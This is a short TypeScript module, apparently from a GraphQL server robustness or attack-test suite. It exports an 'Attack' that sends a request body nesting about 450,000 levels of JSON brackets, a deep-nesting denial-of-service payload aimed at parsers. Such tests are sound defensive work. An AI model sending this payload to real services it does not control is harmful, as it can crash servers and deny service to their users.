import type { Attack } from '../attack';
import { sendJson } from '../send-operation';

const DEEP = 450_000;
const BODY = `{"query":"{ platform { demo } }","variables":{"a":${'['.repeat(DEEP)}${']'.repeat(DEEP)}}}`;

/** Nearly a megabyte of brackets in brackets. */
export const nestedJson: Attack = (address) => sendJson(address, BODY);
